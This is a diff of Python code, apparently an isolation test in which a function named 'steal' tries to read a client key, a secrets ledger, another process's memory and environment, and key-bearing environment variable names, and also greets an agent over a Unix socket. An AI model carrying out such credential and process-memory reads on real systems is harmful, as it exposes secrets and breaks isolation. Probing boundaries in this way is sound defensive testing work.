@@ -29,11 +29,12 @@ def ask(path: str, request: bytes) -> str:
     with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as agent:
         agent.settimeout(20.0)
         agent.connect(path)
-        agent.sendall(request)
-        agent.shutdown(socket.SHUT_WR)
         answer = b""
-        while part := agent.recv(1 << 16):
-            answer += part
+        with contextlib.suppress(ConnectionError):
+            agent.sendall(request)
+            agent.shutdown(socket.SHUT_WR)
+            while part := agent.recv(1 << 16):
+                answer += part
     if not answer:
         return "hung up"
     head = json.loads(answer[12 : 12 + int.from_bytes(answer[:4], "big")])
@@ -70,7 +71,6 @@ def steal(message: Message, context: Context) -> Message:
         "folder": tried(lambda: list(secrets.iterdir())),
         "key": tried((secrets / "client-0.key").read_bytes),
         "ledger": tried((secrets / "state" / "client-0.jsonl").read_bytes),
-        "environment of the agent": tried(Path(f"/proc/{agent}/environ").read_bytes),
         "memory of the agent": tried(Path(f"/proc/{agent}/mem").open),
         "its own environment": str([name for name in os.environ if "PASSPHRASE" in name or "KEY" in name]),
         "greet": ask(path, frame("greet", run=_RUN, session="ab" * 16, nonce={"base64": "AA=="})),
